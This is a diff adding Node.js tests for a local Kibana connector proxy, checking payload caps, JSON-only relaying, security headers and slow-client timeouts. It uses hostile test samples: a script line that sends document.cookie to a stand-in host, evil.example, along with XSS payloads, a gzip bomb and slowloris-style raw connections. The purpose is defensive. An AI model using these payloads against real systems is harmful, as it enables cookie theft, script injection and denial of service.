@@ -4,7 +4,9 @@
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { spawn } from 'node:child_process';
-import { startServer, parseKibanaUrl } from '../server.mjs';
+import { gzipSync } from 'node:zlib';
+import { connect } from 'node:net';
+import { startServer, parseKibanaUrl, isJsonType, plainHttpWarning } from '../server.mjs';
 import { startFakeKibana } from './fake-kibana.mjs';
 import { loadPackage, rawRequest, closedPortUrl } from './helpers.mjs';
 
@@ -161,12 +163,57 @@ test('the proxy refuses everything but the connector routes, and Kibana sees non
   assert.equal(kibana.requests.length, 1);
 });
 
-test('the proxy: bodies over 1 MB, a Kibana that hangs or is down', async () => {
-  kibana.reset();
-  const big = await post(page, '/api/actions/connector', { body: `{"name":"${'x'.repeat(1024 * 1024)}"}` }).catch((error) => ({ status: 'reset', error }));
-  assert.ok(big.status === 413 || big.status === 'reset', String(big.status));
-  assert.equal(kibana.requests.length, 0);
+/** Kibana's answer to a body over its `server.maxPayload` (1 MiB by default). */
+const TOO_LARGE = { statusCode: 413, error: 'Request Entity Too Large', message: 'Payload content length greater than maximum allowed: 1048576' };
 
+test('bodies over 1 MiB get Kibana\'s 413, declared or streamed, and Kibana sees none of them', async () => {
+  assert.equal(TOO_LARGE.message, pkg.validate('x'.repeat(1024 * 1024 + 1)).kibanaError.message, 'the checker\'s words');
+  const big = `{"name":"${'x'.repeat(1024 * 1024)}"}`;
+  const streamed = (total, piece = 64 * 1024) => new ReadableStream({
+    start() { this.sent = 0; },
+    pull(controller) {
+      if (this.sent >= total) return controller.close();
+      this.sent += piece;
+      controller.enqueue(new TextEncoder().encode('x'.repeat(piece)));
+    },
+  });
+  const cases = [
+    ['with Content-Length', () => post(page, '/api/actions/connector', { body: big })],
+    ['8 MiB with Content-Length', () => post(page, '/api/actions/connector', { body: 'x'.repeat(8 * 1024 * 1024) })],
+    ['chunked, 2 MiB', () => fetch(new URL('/api/actions/connector', page.url), { method: 'POST', headers: { 'kbn-xsrf': 'true', 'content-type': 'application/json' }, body: streamed(2 * 1024 * 1024), duplex: 'half' })],
+    ['chunked, 40 MiB (more than the server drains)', () => fetch(new URL('/api/actions/connector', page.url), { method: 'POST', headers: { 'kbn-xsrf': 'true' }, body: streamed(40 * 1024 * 1024), duplex: 'half' })],
+  ];
+  for (const [what, send] of cases) {
+    kibana.reset();
+    const response = await send().catch((error) => ({ status: `reset (${error.cause?.code ?? error.message})` }));
+    if (what.includes('more than the server drains') && typeof response.status === 'string') {
+      // Past 16 MiB of draining the server hangs up: a reset is all such a client may get.
+      assert.equal(kibana.requests.length, 0);
+      continue;
+    }
+    assert.equal(response.status, 413, what);
+    assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'refused', what);
+    assert.deepEqual(await response.json(), TOO_LARGE, what);
+    assert.equal(kibana.requests.length, 0, what);
+  }
+  // Just under the limit is forwarded.
+  kibana.reset();
+  const exactly = `{"name":"${'x'.repeat(1024 * 1024 - 11)}"}`;
+  assert.equal(Buffer.byteLength(exactly), 1024 * 1024);
+  const fits = await post(page, '/api/actions/connector', { body: exactly });
+  assert.equal(kibana.requests.length, 1);
+  assert.equal(fits.status, 400, 'Kibana\'s own answer (the name is not a connector body)');
+
+  // A raw client that sends its whole over-long body, chunked, and then reads.
+  const host = new URL(page.url).host;
+  const chunk = 'x'.repeat(256 * 1024);
+  const chunks = Array.from({ length: 6 }, () => `${chunk.length.toString(16)}\r\n${chunk}\r\n`).join('');
+  const raw = await rawRequest(page.url, `POST /api/actions/connector HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}0\r\n\r\n`);
+  assert.equal(raw.status, 413);
+  assert.deepEqual(JSON.parse(raw.body), TOO_LARGE);
+});
+
+test('the proxy: a Kibana that hangs or is down', async () => {
   kibana.respondNext({ hang: true });
   const started = Date.now();
   const late = await post(page, '/api/actions/connector');
@@ -182,6 +229,271 @@ test('the proxy: bodies over 1 MB, a Kibana that hangs or is down', async () => 
     assert.match((await response.json()).message, /ECONNREFUSED/);
   } finally {
     down.server.close();
+  }
+});
+
+/** Writes `total` bytes of `piece` (a JSON string's inside) as a chunked answer, with
+ *  back-pressure, and records how much was written before the proxy hung up. */
+function streamAnswer(total, record, { piece = 'x'.repeat(64 * 1024), headers = {} } = {}) {
+  return (request, response) => {
+    response.writeHead(200, { 'content-type': 'application/json', ...headers });
+    record.written = 0;
+    record.closed = new Promise((resolve) => response.on('close', resolve));
+    const chunk = Buffer.from(piece);
+    response.write('{"x":"');
+    const more = () => {
+      while (record.written < total && !response.destroyed) {
+        record.written += chunk.length;
+        if (!response.write(chunk)) return response.once('drain', more);
+      }
+      if (!response.destroyed) response.end('"}');
+    };
+    more();
+  };
+}
+
+test('only JSON answers of Kibana pass, as application/json that a browser never runs', async () => {
+  const bad = [
+    ['HTML', 200, 'text/html', '<script>parent.stolen = 1</script>'],
+    ['HTML with a charset', 200, 'text/html; charset=utf-8', '<html><body>secret-in-body</body></html>'],
+    ['a script', 200, 'text/javascript', 'fetch("https://evil.example/?k=" + document.cookie)'],
+    ['a script that is also valid JSON', 200, 'application/javascript', '"use strict"'],
+    ['JSON as text/plain', 200, 'text/plain', '{"id":"x"}'],
+    ['SVG', 200, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
+    ['application/json-seq', 200, 'application/json-seq', '{"id":"x"}'],
+    ['a lookalike type', 200, 'application/jsonx', '{"id":"x"}'],
+    ['JSON type, HTML body', 200, 'application/json', '<script>alert(1)</script>'],
+    ['JSON type, empty body', 200, 'application/json', ''],
+    ['an error page in HTML', 502, 'text/html', '<html><h1>502 Bad Gateway</h1></html>'],
+    ['no Content-Type', 200, null, '{"id":"x"}'],
+  ];
+  for (const [what, status, contentType, text] of bad) {
+    kibana.reset();
+    kibana.respondNext({
+      handle: (request, response) => {
+        response.writeHead(status, contentType === null ? {} : { 'content-type': contentType });
+        response.end(text);
+      },
+    });
+    const response = await post(page, '/api/actions/connector');
+    assert.equal(response.status, 502, what);
+    assert.equal(response.headers.get('x-kibana-connectors-proxy'), 'bad-answer', what);
+    assert.equal(response.headers.get('content-type'), 'application/json; charset=utf-8', what);
+    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', what);
+    assert.match(response.headers.get('content-security-policy'), /^sandbox(;|$)/, what);
+    const answer = await response.json();
+    assert.equal(answer.statusCode, 502);
+    assert.match(answer.message, new RegExp(`^Kibana answered ${status} with ${contentType === null ? 'no Content-Type' : `Content-Type ${contentType.replace(/[+]/g, '\\+')}`}`), what);
+    assert.match(answer.message, new RegExp(`\\(${Buffer.byteLength(text)} bytes\\)`), what);
+    for (const piece of ['<', 'secret-in-body', 'evil.example', 'use strict', '"id"']) assert.ok(!answer.message.includes(piece), `${what}: the body is not quoted`);
+  }
+
+  // JSON passes, with its parameters or as a +json subtype, re-labelled as application/json.
+  const good = [
+    ['application/json', 200],
+    ['application/json; charset=utf-8', 200],
+    ['Application/JSON;charset=UTF-8', 400],
+    ['application/problem+json', 400],
+    ['application/vnd.elastic+json; compatible-with=8', 409],
+  ];
+  for (const [contentType, status] of good) {
+    kibana.respondNext({
+      handle: (request, response) => {
+        response.writeHead(status, { 'content-type': contentType, 'set-cookie': 'sid=kibana', 'x-powered-by': 'kibana' });
+        response.end('{"statusCode":400,"message":"<img src=x onerror=alert(1)>"}');
+      },
+    });
+    const response = await post(page, '/api/actions/connector');
+    assert.equal(response.status, status, contentType);
+    assert.equal(response.headers.get('x-kibana-connectors-proxy'), null, contentType);
+    assert.equal(response.headers.get('content-type'), 'application/json; charset=utf-8', contentType);
+    assert.equal(response.headers.get('x-content-type-options'), 'nosniff');
+    assert.match(response.headers.get('content-security-policy'), /^sandbox(;|$)/);
+    assert.equal(response.headers.get('set-cookie'), null);
+    assert.equal(response.headers.get('x-powered-by'), null);
+    assert.equal((await response.json()).message, '<img src=x onerror=alert(1)>');
+  }
+  // The proxy's own answers have the same headers.
+  const refused = await fetch(new URL('/api/status', page.url));
+  assert.match(refused.headers.get('content-security-policy'), /^sandbox(;|$)/);
+  assert.equal(refused.headers.get('content-type'), 'application/json; charset=utf-8');
+
+  // An empty 204 (Kibana's answer to DELETE) passes as it is.
+  kibana.respondNext({ handle: (request, response) => { response.writeHead(204); response.end(); } });
+  const deleted = await fetch(new URL('/api/actions/connector/x', page.url), { method: 'DELETE', headers: { 'kbn-xsrf': 'true' } });
+  assert.equal(deleted.status, 204);
+  assert.equal(await deleted.text(), '');
+
+  assert.equal(isJsonType('application/json'), true);
+  assert.equal(isJsonType(' application/merge-patch+json ; x=1'), true);
+  for (const type of [null, '', 'json', 'text/json', 'application/+json', 'application/json+xml', 'application/x-json', 'text/html; x=application/json']) assert.equal(isJsonType(type), false, type);
+});
+
+test('Kibana\'s answer is capped at 16 MiB once decoded, counted while it streams', async () => {
+  // A gzip bomb: 40 KiB on the wire, 40 MiB of JSON once decoded.
+  const bomb = gzipSync(`{"x":"${'x'.repeat(40 * 1024 * 1024)}"}`);
+  assert.ok(bomb.length < 100 * 1024);
+  kibana.respondNext({
+    handle: (request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip', 'content-length': bomb.length });
+      response.end(bomb);
+    },
+  });
+  const before = process.memoryUsage().arrayBuffers;
+  const exploded = await post(page, '/api/actions/connector');
+  assert.equal(exploded.status, 502);
+  assert.equal(exploded.headers.get('x-kibana-connectors-proxy'), 'bad-answer');
+  assert.match((await exploded.json()).message, /^Kibana answered 200 with more than 16 MiB/);
+  assert.ok(process.memoryUsage().arrayBuffers - before < 48 * 1024 * 1024, 'the decoded answer is not kept whole');
+
+  // A chunked answer without Content-Length: the proxy stops reading (and hangs up) at the cap.
+  const record = {};
+  kibana.respondNext({ handle: streamAnswer(200 * 1024 * 1024, record) });
+  const endless = await post(page, '/api/actions/connector');
+  assert.equal(endless.status, 502);
+  assert.match((await endless.json()).message, /more than 16 MiB/);
+  await record.closed;
+  assert.ok(record.written < 64 * 1024 * 1024, `Kibana wrote ${record.written} bytes before the proxy hung up`);
+
+  // A Content-Length over the cap is refused before reading.
+  kibana.respondNext({
+    handle: (request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json', 'content-length': 17 * 1024 * 1024 });
+      response.write('{"x":"');
+    },
+  });
+  const declared = await post(page, '/api/actions/connector');
+  assert.equal(declared.status, 502);
+  assert.match((await declared.json()).message, /more than 16 MiB/);
+
+  // Under the cap, gzip or chunked, the answer passes whole.
+  const record2 = {};
+  kibana.respondNext({ handle: streamAnswer(8 * 1024 * 1024, record2, { headers: { 'content-type': 'application/json; charset=utf-8' } }) });
+  const large = await post(page, '/api/actions/connector');
+  assert.equal(large.status, 200);
+  assert.equal((await large.json()).x.length, 8 * 1024 * 1024);
+  const small = gzipSync('{"id":"zipped"}');
+  kibana.respondNext({
+    handle: (request, response) => {
+      response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' });
+      response.end(small);
+    },
+  });
+  const zipped = await post(page, '/api/actions/connector');
+  assert.equal(zipped.status, 200);
+  assert.equal(zipped.headers.get('content-encoding'), null);
+  assert.deepEqual(await zipped.json(), { id: 'zipped' });
+});
+
+test('every answer forbids framing and the browser features the page does not use', async () => {
+  for (const [what, response] of [
+    ['the page', await fetch(plain.url)],
+    ['a file', await fetch(new URL('/app.js', plain.url))],
+    ['a 404', await fetch(new URL('/nothing-here', plain.url))],
+    ['a proxy refusal', await fetch(new URL('/api/status', page.url))],
+    ['Kibana\'s answer', await post(page, '/api/actions/connector')],
+  ]) {
+    assert.equal(response.headers.get('x-frame-options'), 'DENY', what);
+    const policy = response.headers.get('permissions-policy') ?? '';
+    for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb']) assert.match(policy, new RegExp(`(^|, )${feature}=\\(\\)(,|$)`), `${what}: ${feature}`);
+    assert.ok(response.headers.get('content-security-policy'), what);
+    await response.arrayBuffer();
+  }
+});
+
+/** A raw connection that writes `head`, then `drip` every 100 ms (when given); resolves to
+ *  { ms, data } once the server closes it, or { ms: Infinity } after `giveUp` ms. */
+function slowClient(url, head, { drip = null, giveUp = 4000 } = {}) {
+  return new Promise((resolve) => {
+    const started = Date.now();
+    const socket = connect(Number(new URL(url).port), '127.0.0.1', () => socket.write(head));
+    let data = '';
+    const timer = drip === null ? null : setInterval(() => socket.writable && socket.write(drip), 100);
+    const stop = setTimeout(() => { socket.destroy(); finish(Infinity); }, giveUp);
+    const finish = (ms) => {
+      clearInterval(timer);
+      clearTimeout(stop);
+      resolve({ ms, data });
+    };
+    socket.setEncoding('utf8');
+    socket.on('data', (chunk) => { data += chunk; });
+    socket.on('error', () => {});
+    socket.on('close', () => finish(Date.now() - started));
+  });
+}
+
+test('slow clients: headers and requests that never finish are cut off', async () => {
+  const limited = await startServer({ port: 0, kibanaUrl: kibana.url, headersTimeoutMs: 500, requestTimeoutMs: 1000 });
+  try {
+    const host = `Host: ${new URL(limited.url).host}\r\n`;
+    kibana.reset();
+    const [silent, headers, body] = await Promise.all([
+      slowClient(limited.url, ''),
+      slowClient(limited.url, `GET / HTTP/1.1\r\n${host}X-Slow: `, { drip: 'a' }),
+      slowClient(limited.url, `POST /api/actions/connector HTTP/1.1\r\n${host}Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"name":"`, { drip: 'b' }),
+    ]);
+    assert.ok(silent.ms < 3000, `a connection that sends nothing: closed after ${silent.ms} ms`);
+    assert.ok(headers.ms < 3000, `headers that never end: closed after ${headers.ms} ms`);
+    assert.ok(body.ms < 3500, `a body that never ends: closed after ${body.ms} ms`);
+    assert.equal(kibana.requests.length, 0);
+    // A client that is merely slow but finishes in time is served.
+    const ok = await rawRequest(limited.url, `GET /config.json HTTP/1.1\r\n${host}Connection: close\r\n\r\n`);
+    assert.equal(ok.status, 200);
+    // Waiting for Kibana is not the client's time: an answer later than the request timeout passes.
+    kibana.respondNext({ handle: (request, response) => setTimeout(() => response.writeHead(200, { 'content-type': 'application/json' }).end('{"id":"late"}'), 1500) });
+    const late = await post(limited, '/api/actions/connector');
+    assert.equal(late.status, 200);
+    assert.deepEqual(await late.json(), { id: 'late' });
+  } finally {
+    limited.server.close();
+  }
+});
+
+test('a client that does not read its answer is dropped once the connection is idle', async () => {
+  const idle = await startServer({ port: 0, kibanaUrl: kibana.url, timeoutMs: 500, idleTimeoutMs: 500 });
+  try {
+    // 15 MiB (under the cap): more than the socket buffers hold, so the server's write stalls.
+    const record = {};
+    kibana.respondNext({ handle: streamAnswer(15 * 1024 * 1024, record) });
+    const socket = connect(Number(new URL(idle.url).port), '127.0.0.1');
+    socket.on('error', () => {});
+    socket.pause();
+    socket.write(`POST /api/actions/connector HTTP/1.1\r\nHost: ${new URL(idle.url).host}\r\nContent-Length: 2\r\n\r\n{}`);
+    const connections = () => new Promise((resolve) => idle.server.getConnections((error, count) => resolve(count)));
+    const started = Date.now();
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    assert.equal(await connections(), 1);
+    while (await connections() > 0 && Date.now() - started < 5000) await new Promise((resolve) => setTimeout(resolve, 100));
+    assert.equal(await connections(), 0, 'the server hung up');
+    socket.destroy();
+  } finally {
+    idle.server.close();
+  }
+});
+
+test('a connection limit: past it, new connections are closed at once', async () => {
+  const limited = await startServer({ port: 0, maxConnections: 3, headersTimeoutMs: 1500, requestTimeoutMs: 1500 });
+  try {
+    const host = `Host: ${new URL(limited.url).host}\r\n`;
+    const held = [1, 2, 3].map(() => slowClient(limited.url, `GET / HTTP/1.1\r\n${host}`, { giveUp: 6000 }));
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    const extra = await slowClient(limited.url, `GET / HTTP/1.1\r\n${host}\r\n`, { giveUp: 1000 });
+    assert.ok(extra.ms < 1000, `the 4th connection: closed after ${extra.ms} ms`);
+    assert.equal(extra.data, '', 'it gets no answer');
+    // Once the held ones time out, the server answers again.
+    for (const { ms } of await Promise.all(held)) assert.ok(ms < 6000);
+    assert.equal((await fetch(limited.url)).status, 200);
+  } finally {
+    limited.server.close();
+  }
+});
+
+test('a warning at start when KIBANA_URL is plain http:// to another machine', () => {
+  for (const url of ['http://kibana.example:5601', 'http://10.0.0.5', 'http://[2001:db8::1]:5601', 'http://localhost.example']) {
+    assert.match(plainHttpWarning(url), /^Warning: KIBANA_URL is plain http:\/\/ to .*unencrypted\. Use https:\/\/\.$/, url);
+  }
+  for (const url of [null, 'https://kibana.example', 'http://127.0.0.1:5601', 'http://127.1.2.3', 'http://localhost:5601', 'http://kibana.localhost', 'http://[::1]:5601', 'http://[::ffff:127.0.0.1]']) {
+    assert.equal(plainHttpWarning(url && parseKibanaUrl(url)), null, url);
   }
 });
 
@@ -221,8 +533,10 @@ test('`node www/server.mjs` (what `make serve` runs) prints its URL and serves t
   const run = async (env, expected) => {
     const child = spawn(process.execPath, [new URL('../server.mjs', import.meta.url).pathname], {
       env: { ...process.env, PORT: '0', KIBANA_URL: '', ...env },
-      stdio: ['ignore', 'pipe', 'inherit'],
+      stdio: ['ignore', 'pipe', 'pipe'],
     });
+    let errors = '';
+    child.stderr.on('data', (chunk) => { errors += chunk; });
     try {
       const { url, out } = await new Promise((resolve, reject) => {
         let text = '';
@@ -236,11 +550,17 @@ test('`node www/server.mjs` (what `make serve` runs) prints its URL and serves t
       const response = await fetch(url);
       assert.equal(response.status, 200);
       assert.match(out, expected);
-      return (await fetch(new URL('/config.json', url))).json();
+      return { config: await (await fetch(new URL('/config.json', url))).json(), errors };
     } finally {
       child.kill();
     }
   };
-  assert.equal((await run({}, /Sending is off: set KIBANA_URL/)).kibana, null);
-  assert.equal((await run({ KIBANA_URL: kibana.url }, /Sending through this server to http:\/\/127\.0\.0\.1:\d+\/kbn/)).kibana.route, 'proxy');
+  const off = await run({}, /Sending is off: set KIBANA_URL/);
+  assert.equal(off.config.kibana, null);
+  assert.equal(off.errors, '');
+  const local = await run({ KIBANA_URL: kibana.url }, /Sending through this server to http:\/\/127\.0\.0\.1:\d+\/kbn/);
+  assert.equal(local.config.kibana.route, 'proxy');
+  assert.equal(local.errors, '', 'plain http:// to this machine: no warning');
+  const remote = await run({ KIBANA_URL: 'http://kibana.invalid:5601' }, /Sending through this server to http:\/\/kibana\.invalid:5601/);
+  assert.match(remote.errors, /^Warning: KIBANA_URL is plain http:\/\/ to kibana\.invalid: .*unencrypted/);
 });
